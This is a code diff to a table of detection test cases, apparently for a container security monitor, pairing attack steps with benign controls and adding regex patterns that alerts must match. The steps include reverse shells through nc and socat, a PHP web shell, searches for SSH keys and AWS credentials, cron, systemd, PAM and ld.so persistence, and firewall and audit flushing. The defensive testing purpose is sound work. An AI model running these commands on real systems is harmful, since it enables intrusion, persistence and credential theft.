@@ -56,7 +56,10 @@ export const CASES: Record<string, [Step, Step]> = {
   namespace_change_in_container: [sh('unshare -n true'), x('ls', '/proc/self/ns')],
   memfd_exec: [x('eunomia-attack', 'memfd-exec'), x('eunomia-attack', 'memfd')],
   dev_shm_exec: [sh('cp /bin/busybox /dev/shm/bb && /dev/shm/bb true'), sh('cp /bin/busybox /dev/shm/bb && ls /dev/shm')],
-  netcat_remote_exec: [sh('(echo exit | timeout 3 nc -l -p 4446 &); sleep 0.3; nc 127.0.0.1 4446 -e /bin/sh'), sh('(timeout 2 nc -l -p 4447 > /dev/null &); sleep 0.3; echo hi | timeout 1 nc 127.0.0.1 4447')],
+  netcat_remote_exec: [
+    sh('(echo exit | timeout 3 nc -l -p 4446 &); sleep 0.3; nc 127.0.0.1 4446 -e /bin/sh; socat TCP:127.0.0.1:4446 EXEC:/bin/sh'),
+    sh('(timeout 2 nc -l -p 4447 > /dev/null &); sleep 0.3; echo hi | timeout 1 nc 127.0.0.1 4447; socat --version'),
+  ],
   package_manager_in_container: [x('dpkg', '-i', '/tmp/tool.deb'), x('dpkg', '-l')],
   network_tool_in_container: [x('nmap', '-sS', '10.0.0.0/24'), x('nmap', '--version')],
   runtime_socket_access: [x('eunomia-attack', 'unix-connect', '/var/run/docker.sock'), x('eunomia-attack', 'unix-connect', '/tmp/app.sock')],
@@ -93,7 +96,8 @@ export const CASES: Record<string, [Step, Step]> = {
   python_startup_hook: [sh('mkdir -p /root/.local/lib/python3.11/site-packages && echo "import os" > /root/.local/lib/python3.11/site-packages/evil.pth'), sh('echo "import os" > /tmp/evil.pth')],
   mail_forward_written: [sh('echo attacker@example.com > /root/.forward'), x('cat', '/root/.profile')],
   shell_history_cleared: [sh(': > /root/.ash_history'), sh('echo ls >> /root/.ash_history')],
-  ssh_key_search: [x('find', '/root', '-name', 'id_rsa'), x('find', '/etc', '-name', 'hostname')],
+  // By path: busybox sh runs a bare `find` in a fork of itself, with no exec to see.
+  ssh_key_search: [sh('/bin/find /root -name id_rsa; /bin/find / -xdev -name credentials -path "*/.aws/*"'), x('find', '/etc', '-name', 'hostname')],
   ld_preload_tamper: [sh('echo /tmp/x.so > /etc/ld.so.preload'), sh('cat /etc/ld.so.preload')],
   // The attempt is the signal: no library needs to exist (busybox is static and ignores them).
   // `true` alone would be busybox sh's builtin, with no exec to see.
@@ -144,11 +148,55 @@ export const CASES: Record<string, [Step, Step]> = {
   sensitive_file_link: [sh('ln -s /etc/shadow /tmp/s; ln /etc/shadow /root/h'), sh('ln -s /etc/hostname /tmp/h')],
   shell_config_modified: [sh('echo "wget -qO- x | sh" >> /root/.profile'), x('cat', '/root/.profile')],
   ssh_authorized_keys_modified: [sh('echo "ssh-ed25519 AAAA attacker" >> /root/.ssh/authorized_keys'), x('cat', '/root/.ssh/id_ed25519.pub')],
-  cron_modified: [sh('echo "* * * * * /tmp/x" > /var/spool/cron/crontabs/root'), x('crontab', '-l')],
+  cron_modified: [sh('echo "* * * * * /tmp/x" > /var/spool/cron/crontabs/root; mkdir -p /var/spool/at && echo /tmp/x > /var/spool/at/a0001'), x('crontab', '-l')],
   path_traversal_read: [x('cat', '/tmp/../../etc/passwd'), x('cat', '/etc/passwd')],
   credential_search: [x('grep', '-r', 'password', '/etc'), x('grep', 'root', '/etc/passwd')],
   pam_config_modified: [sh('echo "auth sufficient pam_permit.so" > /etc/pam.d/other'), x('ls', '/etc/pam.d')],
   dev_file_created: [sh('echo x > /dev/.hidden'), sh('echo x > /dev/null')],
+  systemd_unit_written: [sh('mkdir -p /etc/systemd/system && echo "[Service]" > /etc/systemd/system/evil.service'), sh('echo "[Service]" > /tmp/evil.service')],
+  udev_rule_written: [sh('mkdir -p /etc/udev/rules.d && echo "RUN+=\"/tmp/x\"" > /etc/udev/rules.d/99-evil.rules'), sh('echo "RUN+=\"/tmp/x\"" > /tmp/99-evil.rules')],
+  root_certificate_added: [sh('mkdir -p /usr/local/share/ca-certificates && echo x > /usr/local/share/ca-certificates/evil.crt'), sh('echo x > /tmp/evil.crt')],
+  package_repo_modified: [sh('mkdir -p /etc/apt/sources.list.d && echo "deb http://10.255.255.1/ x main" > /etc/apt/sources.list.d/evil.list'), sh('cat /etc/apt/sources.list.d/*.list > /dev/null')],
+  rc_script_modified: [sh('echo "/tmp/x &" >> /etc/rc.local'), x('cat', '/etc/rc.local')],
+  logging_config_modified: [sh('mkdir -p /etc/rsyslog.d && echo "*.* stop" > /etc/rsyslog.d/00-drop.conf'), x('cat', '/etc/rsyslog.conf')],
+  mail_transport_config_modified: [sh('mkdir -p /etc/postfix && echo "always_bcc = x@example.com" >> /etc/postfix/main.cf'), x('cat', '/etc/postfix/main.cf')],
+  ld_so_conf_modified: [sh('mkdir -p /etc/ld.so.conf.d && echo /tmp > /etc/ld.so.conf.d/evil.conf'), x('cat', '/etc/ld.so.conf')],
+  pam_module_written: [sh('mkdir -p /lib/security && echo x > /lib/security/pam_evil.so'), sh('echo x > /tmp/pam_notes.txt')],
+  sudo_timestamp_modified: [sh('mkdir -p /run/sudo/ts && echo x > /run/sudo/ts/root'), x('ls', '/run')],
+  package_db_modified: [sh('mkdir -p /var/lib/dpkg && echo "Package: evil" >> /var/lib/dpkg/status'), x('cat', '/var/lib/dpkg/status')],
+  // SSSD's cache (in the image) and a Kerberos ticket cache (made by the attacker); benign: krb5.conf
+  credential_cache_read: [sh('cat /var/lib/sss/db/cache_example.ldb; echo x > /tmp/krb5cc_0; cat /tmp/krb5cc_0'), sh('echo x > /tmp/krb5.conf; cat /tmp/krb5.conf')],
+  tls_private_key_read: [x('cat', '/etc/ssl/private/server.key'), x('ls', '-l', '/etc/ssl/private')],
+  credential_file_read: [x('cat', '/root/.aws/credentials'), x('ls', '-a', '/root/.aws')],
+  service_account_token_read: [x('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'), x('cat', '/var/run/secrets/kubernetes.io/serviceaccount/namespace')],
+  ssh_config_read: [x('cat', '/root/.ssh/known_hosts'), x('cat', '/root/.ssh/id_ed25519.pub')],
+  web_root_written: [sh(`echo '<?php system($_GET["c"]); ?>' > /var/www/html/shell.php`), sh('mkdir -p /var/www/html/uploads && echo x > /var/www/html/uploads/a.png')],
+  // /dev/sdz9 exists nowhere (dd makes a file in the container's own /dev): the attempt to open
+  // a disk for writing is the signal. Benign: the same dd onto an image file.
+  block_device_write: [x('dd', 'if=/dev/zero', 'of=/dev/sdz9', 'count=1'), x('dd', 'if=/dev/zero', 'of=/tmp/disk.img', 'count=1')],
+  empty_argv_exec: [x('eunomia-attack', 'exec-noargv', '/usr/bin/pkexec'), x('pkexec', '--version')],
+  sudo_heap_overflow_args: [x('sudoedit', '-s', '\\', 'AAAAAAAAAAAAAAAA'), x('sudoedit', '-s', '/etc/motd')],
+  audit_disabled: [x('auditctl', '-D'), x('auditctl', '-l')],
+  firewall_flushed: [x('iptables', '-F'), x('iptables', '-L', '-n')],
+  vnc_from_container: [x('timeout', '1', 'nc', '127.0.0.1', '5901'), x('timeout', '1', 'nc', '127.0.0.1', '5000')],
+  k8s_api_server_contacted: [x('timeout', '1', 'nc', '127.0.0.1', '6443'), x('timeout', '1', 'nc', '127.0.0.1', '6444')],
+  remote_access_service_in_container: [x('timeout', '1', 'nc', '-l', '-p', '2222'), x('timeout', '1', 'nc', '-l', '-p', '8022')],
+  dhcp_server_in_container: [x('eunomia-attack', 'udp-bind', '67'), x('eunomia-attack', 'udp-bind', '6767')],
+  // Refused without CAP_SYS_ADMIN: the attempt is the signal.
+  proc_pid_mount: [sh('mount --bind /tmp /proc/1'), x('cat', '/proc/1/status')],
+  // The agent's socket is made first (unix-connect listens on a path that does not exist yet).
+  ssh_agent_hijack: [sh('mkdir -p /tmp/ssh-XXXXa1b2 && eunomia-attack unix-connect /tmp/ssh-XXXXa1b2/agent.42'), x('eunomia-attack', 'unix-connect', '/tmp/ssh-notes.sock')],
+};
+
+/**
+ * What a rule's alerts must also say, where its attack tries more than one form (each regular
+ * expression must match one of the rule's alerts from the attacker).
+ */
+export const FORMS: Record<string, RegExp[]> = {
+  netcat_remote_exec: [/^nc .*-e/, /^socat .*EXEC:/],
+  ssh_key_search: [/id_rsa/, /credentials/],
+  cron_modified: [/\/var\/spool\/cron\/crontabs\/root/, /\/var\/spool\/at\//],
+  credential_cache_read: [/\/var\/lib\/sss\/db\//, /\/tmp\/krb5cc_0/],
 };
 
 /**
